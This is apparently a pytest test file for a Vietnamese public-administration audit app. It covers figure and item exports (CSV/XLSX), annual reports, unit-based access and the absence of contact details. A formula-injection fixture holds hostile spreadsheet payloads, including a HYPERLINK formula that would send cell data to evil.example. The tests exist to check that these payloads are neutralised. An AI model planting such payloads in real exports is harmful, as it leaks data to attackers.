"""Downloads: the figures and the item list as CSV and XLSX, and the annual report (web and `flask report annual`).

The hand-computed figures are those of test_figures.py; figures that depend on "today" are worked out for any
day after 18 June 2025 (the real clock: B3's answer is then overdue too).
"""

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook
from werkzeug.http import parse_options_header

from app.clock import local_today
from app.extensions import db
from app.inspection.definitions import DEFINITIONS
from app.inspection.exports import XLSX_TYPE
from tests.inspection.conftest import QUERY, SUBMITTER_TRACES, with_submitter

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TIMESTAMP_HEADINGS = [
    "Tiếp nhận lúc",
    "Hạn tiếp nhận",
    "Xác nhận tiếp nhận lúc",
    "Phản hồi đầu tiên lúc",
    "Hạn giải quyết",
    "Trả lời lúc",
    "Kết thúc lúc",
    "Tạm dừng từ",
    "Đánh giá lúc",
]


def download(client, path, mimetype, filename):
    """GET a download; check it is an attachment with the expected name and never cached by others."""
    response = client.get(path)
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    assert response.mimetype == mimetype
    disposition, options = parse_options_header(response.headers["Content-Disposition"])
    assert (disposition, options.get("filename")) == ("attachment", filename)
    assert "no-store" in response.headers["Cache-Control"]
    return response


def csv_rows(response):
    """The rows of a CSV download (UTF-8 with a BOM, for spreadsheet programs)."""
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def as_records(rows):
    header, *body = rows
    return [dict(zip(header, row, strict=True)) for row in body]


def workbook(data):
    return load_workbook(io.BytesIO(data))


def sheet_rows(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def by_group(records):
    return {(record["Nhóm"], record["Mã"]): record for record in records}


def overdue_age_of_a6():
    return (local_today() - date(2025, 5, 5)).days


def overdue_age_of_c0():
    """C0, received in March before the period and never answered, is the longest overdue today."""
    return (local_today() - date(2025, 4, 10)).days


# --- figures ---------------------------------------------------------------------------------------------


def test_figures_csv_has_a_header_and_the_hand_computed_figures(client, world, login):
    login(world.inspector)
    response = download(
        client, "/audit/export/figures.csv?" + QUERY, "text/csv", "so-lieu-24-2025-04-01-2025-05-31.csv"
    )
    rows = csv_rows(response)
    assert rows[0][:4] == ["Nhóm", "Mã", "Tên", "Hồ sơ tiếp nhận"]
    groups = by_group(as_records(rows))
    total = groups[("Toàn bộ", "24")]
    assert total["Tên"] == "Tỉnh Bắc Ninh"
    expected = {
        "Hồ sơ tiếp nhận": "10",
        "Đến hạn tiếp nhận": "7",
        "Tiếp nhận đúng hạn": "5",
        "Tiếp nhận đúng hạn (%)": "71.4",
        "Đến hạn trả lời": "7",  # 6 on 10 June; B3's answer fell due on 18 June
        "Trả lời đúng hạn": "4",
        "Trả lời đúng hạn (%)": "57.1",
        "Đã trả lời": "5",
        "Phản hồi đầu tiên, trung vị (ngày làm việc)": "2",
        "Phản hồi đầu tiên, phân vị 90 (ngày làm việc)": "4",
        "Trả lời, trung vị (ngày làm việc)": "15",
        "Trả lời, phân vị 90 (ngày làm việc)": "16",
        "Phản hồi đầu tiên, trung vị (giờ)": "49",
        "Phản hồi đầu tiên, phân vị 90 (giờ)": "168",
        "Trả lời, trung vị (giờ)": "542",
        "Trả lời, phân vị 90 (giờ)": "620",
        # Today: every open item, whenever received (A4, A5, A6, B3, C0, C2); all but A5 overdue.
        "Đang xử lý hiện nay": "6",
        "Quá hạn hiện nay": "5",
        "Quá hạn lâu nhất hiện nay (ngày)": str(overdue_age_of_c0()),
        "Mở lại": "1",
        "Mở lại (%)": "14.3",
        "Điểm đánh giá trung bình": "4.5",
        "Số lượt đánh giá": "2",
        "Chuyển đến": "1",
        "Chuyển đi": "2",
    }
    assert {name: total[name] for name in expected} == expected
    assert groups[("Đơn vị", "07627")]["Hồ sơ tiếp nhận"] == "6"
    assert groups[("Đơn vị", "07627")]["Chuyển đi"] == "1"
    assert (groups[("Đơn vị", "07615")]["Hồ sơ tiếp nhận"], groups[("Đơn vị", "07615")]["Chuyển đến"]) == ("4", "1")
    kinds = {code: record["Hồ sơ tiếp nhận"] for (group, code), record in groups.items() if group == "Loại hồ sơ"}
    assert kinds == {
        "petition": "5",
        "question": "2",
        "information_request": "1",
        "complaint": "1",
        "denunciation": "1",
    }
    months = {code: record["Hồ sơ tiếp nhận"] for (group, code), record in groups.items() if group == "Tháng tiếp nhận"}
    assert months == {"2025-04": "6", "2025-05": "4"}
    officials = {code: record["Hồ sơ tiếp nhận"] for (group, code), record in groups.items() if group == "Cán bộ"}
    assert officials == {"canbo.a": "5", "canbo.b": "4", "": "1"}
    assert groups[("Cán bộ", "")]["Tên"] == "Chưa phân công"


def test_figures_of_a_commune_for_its_own_inspector(client, world, login):
    login(world.commune_inspector)
    response = download(
        client, "/audit/export/figures.csv?" + QUERY, "text/csv", "so-lieu-07627-2025-04-01-2025-05-31.csv"
    )
    groups = by_group(as_records(csv_rows(response)))
    assert groups[("Toàn bộ", "07627")]["Hồ sơ tiếp nhận"] == "6"
    assert groups[("Toàn bộ", "07627")]["Trả lời đúng hạn (%)"] == "60.0"
    assert not any(code == "07615" for _group, code in groups)


def test_figures_xlsx_has_the_sheets_and_numbers_not_text(client, world, login):
    login(world.inspector)
    response = download(
        client, "/audit/export/figures.xlsx?" + QUERY, XLSX_TYPE, "so-lieu-24-2025-04-01-2025-05-31.xlsx"
    )
    book = workbook(response.data)
    assert book.sheetnames == ["Giải quyết hồ sơ", "Công khai thông báo", "Lấy ý kiến Nhân dân", "Định nghĩa"]
    # The consultations' figures join the workbook: the same as their own download for the same filters.
    alone = workbook(client.get("/audit/export/consultations.xlsx?" + QUERY).data)
    assert sheet_rows(book["Lấy ý kiến Nhân dân"]) == sheet_rows(alone["Lấy ý kiến Nhân dân"])
    assert sheet_rows(book["Lấy ý kiến Nhân dân"])[-1][1] == "Toàn đơn vị"
    header, *rows = sheet_rows(book["Giải quyết hồ sơ"])
    total = dict(zip(header, rows[0], strict=True))
    assert (total["Nhóm"], total["Mã"]) == ("Toàn bộ", "24")
    assert total["Hồ sơ tiếp nhận"] == 10 and isinstance(total["Hồ sơ tiếp nhận"], int)
    assert total["Tiếp nhận đúng hạn (%)"] == pytest.approx(71.4) and isinstance(total["Tiếp nhận đúng hạn (%)"], float)
    assert (total["Đang xử lý hiện nay"], total["Quá hạn hiện nay"], total["Chuyển đi"]) == (6, 5, 2)
    assert total["Điểm đánh giá trung bình"] == pytest.approx(4.5)
    for name, value in total.items():
        if name not in ("Nhóm", "Mã", "Tên"):
            assert isinstance(value, int | float), name
    assert len(rows) == 1 + 2 + 5 + 2 + 3  # everything, units, kinds, months, officials (one unassigned)

    header, *rows = sheet_rows(book["Công khai thông báo"])
    disclosure = dict(zip(header, rows[0], strict=True))
    assert disclosure["Mã"] == "24"
    assert disclosure["Thông báo đã niêm yết"] == 4
    assert disclosure["Có ngày ban hành"] == 3
    assert disclosure["Từ ban hành đến niêm yết, trung vị (ngày làm việc)"] == 2
    assert disclosure["Niêm yết trong 3 ngày làm việc"] == 2
    assert disclosure["Niêm yết trong 3 ngày làm việc (%)"] == pytest.approx(66.7)
    assert disclosure["Niêm yết đủ 30 ngày (%)"] == pytest.approx(75.0)
    assert (disclosure["Đính chính"], disclosure["Thu hồi"]) == (2, 1)
    assert sheet_rows(book["Định nghĩa"])[0] == ["Số liệu", "Cách tính"]
    assert len(sheet_rows(book["Định nghĩa"])) == len(DEFINITIONS) + 1


# --- items -----------------------------------------------------------------------------------------------


def codes(world, *names):
    return sorted(world.items[name].tracking_code for name in names)


IN_PERIOD = ["A1", "A2", "A3", "A4", "A5", "A6", "B1", "B2", "B3", "B4"]


def test_items_csv_has_one_row_per_item_with_every_timestamp_and_no_contact(client, world, login):
    with_submitter(world.items["A1"])
    login(world.inspector)
    response = download(client, "/audit/export/items.csv?" + QUERY, "text/csv", "ho-so-24-2025-04-01-2025-05-31.csv")
    body = response.get_data(as_text=True)
    for trace in SUBMITTER_TRACES:
        assert trace not in body
    rows = csv_rows(response)
    assert set(TIMESTAMP_HEADINGS) <= set(rows[0])
    records = {record["Mã hồ sơ"]: record for record in as_records(rows)}
    assert sorted(records) == codes(world, *IN_PERIOD)
    a1 = records[world.items["A1"].tracking_code]
    assert {heading: a1[heading] for heading in TIMESTAMP_HEADINGS} == {
        "Tiếp nhận lúc": "09:00 01/04/2025",
        "Hạn tiếp nhận": "04/04/2025",
        "Xác nhận tiếp nhận lúc": "10:00 03/04/2025",
        "Phản hồi đầu tiên lúc": "10:00 03/04/2025",
        "Hạn giải quyết": "23/04/2025",
        "Trả lời lúc": "23:59 23/04/2025",
        "Kết thúc lúc": "09:00 25/04/2025",
        "Tạm dừng từ": "",
        "Đánh giá lúc": "",
    }
    assert (a1["Trả lời đúng hạn"], a1["Tiếp nhận đúng hạn"], a1["Cán bộ xử lý"]) == ("Có", "Có", "canbo.a")
    assert (a1["Phản hồi đầu tiên (ngày làm việc)"], a1["Trả lời (ngày làm việc)"]) == ("2", "15")
    a2 = records[world.items["A2"].tracking_code]
    assert (a2["Trả lời lúc"], a2["Trả lời đúng hạn"]) == ("00:00 25/04/2025", "Không")
    assert records[world.items["A5"].tracking_code]["Tạm dừng từ"] == "10:00 21/05/2025"
    assert records[world.items["B1"].tracking_code]["Chuyển từ đơn vị"] == "07627"
    assert records[world.items["A6"].tracking_code]["Số ngày quá hạn"] == str(overdue_age_of_a6())


def test_items_export_follows_the_filters_and_the_inspectors_unit(client, world, login):
    login(world.inspector)
    overdue = as_records(csv_rows(client.get("/audit/export/items.csv?overdue=y&" + QUERY)))
    # Every item overdue today, whenever received: C0 (March) and C2 (June) too.
    assert sorted(record["Mã hồ sơ"] for record in overdue) == codes(world, "A4", "A6", "B3", "C0", "C2")
    login(world.commune_inspector)
    own = as_records(csv_rows(client.get("/audit/export/items.csv?" + QUERY)))
    assert sorted(record["Mã hồ sơ"] for record in own) == codes(world, "A1", "A2", "A3", "A4", "A5", "A6")


def test_items_xlsx_has_the_same_rows(client, world, login):
    with_submitter(world.items["B2"])
    login(world.inspector)
    response = download(client, "/audit/export/items.xlsx?" + QUERY, XLSX_TYPE, "ho-so-24-2025-04-01-2025-05-31.xlsx")
    book = workbook(response.data)
    assert book.sheetnames == ["Hồ sơ"]
    header, *rows = sheet_rows(book["Hồ sơ"])
    assert set(TIMESTAMP_HEADINGS) <= set(header)
    records = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert sorted(records) == codes(world, *IN_PERIOD)
    assert records[world.items["A1"].tracking_code]["Trả lời lúc"] == "23:59 23/04/2025"
    assert records[world.items["A1"].tracking_code]["Điểm đánh giá"] == 4
    values = {str(value) for row in rows for value in row if value is not None}
    for trace in SUBMITTER_TRACES:
        assert not any(trace in value for value in values)


# --- formula injection ---------------------------------------------------------------------------------------


@pytest.fixture
def formula_names(world):
    """Names an official or an administrator typed that a spreadsheet would run as formulas."""
    world.oa.display_name = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    world.oa.username = "+canbo.a"
    world.ob.display_name = "@SUM(1+1)"
    world.b.name = "-2+3 Xã Sơn Động"
    db.session.commit()
    return world


def test_csv_cells_that_would_run_as_formulas_are_neutralised(client, formula_names, login):
    world = formula_names
    login(world.inspector)
    for path in ["/audit/export/figures.csv?" + QUERY, "/audit/export/items.csv?" + QUERY]:
        rows = csv_rows(client.get(path))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)], path
    figures = by_group(as_records(csv_rows(client.get("/audit/export/figures.csv?" + QUERY))))
    official = figures[("Cán bộ", "'+canbo.a")]
    assert official["Tên"] == "'" + world.oa.display_name  # the text is kept, after the apostrophe
    assert figures[("Đơn vị", "07615")]["Tên"] == "'-2+3 Xã Sơn Động"
    assert figures[("Cán bộ", "canbo.b")]["Tên"] == "'@SUM(1+1)"
    assert figures[("Toàn bộ", "24")]["Hồ sơ tiếp nhận"] == "10"  # numbers untouched
    items = as_records(csv_rows(client.get("/audit/export/items.csv?" + QUERY)))
    assert {record["Cán bộ xử lý"] for record in items} >= {"'+canbo.a", "canbo.b"}


def test_xlsx_cells_starting_with_equals_are_text_not_formulas(client, formula_names, login):
    world = formula_names
    login(world.inspector)
    for path in ["/audit/export/figures.xlsx?" + QUERY, "/audit/export/items.xlsx?" + QUERY]:
        book = workbook(client.get(path).data)
        for sheet in book.worksheets:
            assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], path
    book = workbook(client.get("/audit/export/figures.xlsx?" + QUERY).data)
    names = [row[2] for row in sheet_rows(book["Giải quyết hồ sơ"])]
    assert world.oa.display_name in names and "-2+3 Xã Sơn Động" in names


# --- the annual report -----------------------------------------------------------------------------------

ANNUAL_SHEETS = ["Tổng hợp", "Theo xã, phường", "Hồ sơ quá hạn", "Xếp hạng", "Lấy ý kiến Nhân dân", "Định nghĩa"]


def annual_contents(book):
    """Every sheet's rows, without the moment the report was made."""
    return {name: [row for row in sheet_rows(book[name]) if row[:1] != ["Lập lúc"]] for name in book.sheetnames}


@pytest.fixture
def annual_file(app, world, runner, tmp_path):
    """`flask report annual --year 2025 --unit 24` with communes of at least 4 items ranked."""
    app.config["AUDIT_RANKING_MIN_ITEMS"] = 4
    path = tmp_path / "bao-cao.xlsx"
    result = runner.invoke(args=["report", "annual", "--year", "2025", "--unit", "24", "--output", str(path)])
    assert result.exit_code == 0, result.output
    assert f"Wrote {path}: 13 items, 5 notices, 2 units ranked (minimum 4 items)" in result.output
    return path


def test_annual_report_from_the_command_line(world, annual_file):
    book = load_workbook(annual_file)
    assert book.sheetnames == ANNUAL_SHEETS
    general = {row[0]: row[1] for row in sheet_rows(book["Tổng hợp"]) if row and row[0]}
    assert general["Đơn vị"] == "Tỉnh Bắc Ninh (24)"
    assert general["Kỳ báo cáo"] == "01/01/2025 – 31/12/2025"
    assert general["Hồ sơ tiếp nhận"] == 13  # the ten of April–May, C0 and C1 of March, C2 of June
    assert general["Thông báo đã niêm yết"] == 5  # N1–N4 and N6 (posted in March)

    header, *rows = sheet_rows(book["Theo xã, phường"])
    communes = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(communes) == {"07627", "07615"}
    a, b = communes["07627"], communes["07615"]
    assert (a["Hồ sơ tiếp nhận"], a["Thông báo đã niêm yết"], a["Đính chính"], a["Thu hồi"]) == (9, 3, 2, 0)
    assert (b["Hồ sơ tiếp nhận"], b["Thông báo đã niêm yết"], b["Đính chính"], b["Thu hồi"]) == (4, 2, 0, 1)
    # A: answered on time A1, A3, A6 of A1–A4, A6, C0, C1, C2 due (37.5%); B: B1 of B1, B3 (50%).
    assert (a["Trả lời đúng hạn"], a["Đến hạn trả lời"], a["Trả lời đúng hạn (%)"]) == (3, 8, 37.5)
    assert (b["Trả lời đúng hạn"], b["Đến hạn trả lời"], b["Trả lời đúng hạn (%)"]) == (1, 2, 50.0)
    assert (a["Hạng"], b["Hạng"]) == (2, 1)

    header, *rows = sheet_rows(book["Hồ sơ quá hạn"])
    assert header[0] == "Mã hồ sơ"
    # Answered or acknowledged late (A2, C1) or overdue now (A4, A6, B3, C0, C2).
    assert sorted(row[0] for row in rows) == codes(world, "A2", "A4", "A6", "B3", "C0", "C1", "C2")

    ranking = sheet_rows(book["Xếp hạng"])
    assert ranking[0][:3] == ["Hạng", "Mã", "Xã, phường"]
    assert [row[:4] for row in ranking[1:3]] == [[1, "07615", "Xã Sơn Động", 4], [2, "07627", "Xã Đại Sơn", 9]]


def test_annual_report_download_is_the_same_workbook(client, world, login, annual_file):
    login(world.inspector)
    response = download(client, "/audit/reports/annual.xlsx?year=2025", XLSX_TYPE, "bao-cao-nam-2025-24.xlsx")
    assert annual_contents(workbook(response.data)) == annual_contents(load_workbook(annual_file))


def test_annual_report_of_a_commune_for_its_inspector(client, world, login):
    login(world.commune_inspector)
    response = download(client, "/audit/reports/annual.xlsx?year=2025", XLSX_TYPE, "bao-cao-nam-2025-07627.xlsx")
    header, *rows = sheet_rows(workbook(response.data)["Theo xã, phường"])
    assert [row[0] for row in rows] == ["07627"]


def test_annual_report_contains_no_contact_details(client, world, login):
    with_submitter(world.items["A2"])
    login(world.inspector)
    book = workbook(client.get("/audit/reports/annual.xlsx?year=2025").data)
    values = {str(value) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for value in row}
    for trace in SUBMITTER_TRACES:
        assert not any(trace in value for value in values)


@pytest.mark.parametrize("year", ["abc", "1999", "2101", "9" * 40, ""])
def test_annual_report_for_a_bad_year_is_400(client, world, login, year):
    login(world.inspector)
    response = client.get(f"/audit/reports/annual.xlsx?year={year}")
    assert response.status_code == 400
    assert "Năm phải" in response.get_data(as_text=True)


def test_command_line_refuses_an_unknown_unit_clearly(runner, world, tmp_path):
    path = tmp_path / "x.xlsx"
    result = runner.invoke(args=["report", "annual", "--year", "2025", "--unit", "99", "--output", str(path)])
    assert result.exit_code == 1
    assert "no administrative unit with code '99'" in result.output
    assert not path.exists()


def test_command_line_refuses_a_year_out_of_range(runner, world, tmp_path):
    result = runner.invoke(args=["report", "annual", "--year", "1990", "--unit", "24", "--output", str(tmp_path / "x")])
    assert result.exit_code == 2
    assert "--year" in result.output


@pytest.mark.parametrize("export", ["figures", "items", "consultations"])
@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_a_download_with_a_bad_date_is_a_400_page_saying_what_to_fix(client, world, login, export, extension):
    login(world.inspector)
    response = client.get(f"/audit/export/{export}.{extension}?from=31/02/2025&to=30/06/2025")
    assert response.status_code == 400
    assert response.mimetype == "text/html" and "Content-Disposition" not in response.headers
    assert "dd/mm/yyyy" in response.get_data(as_text=True)
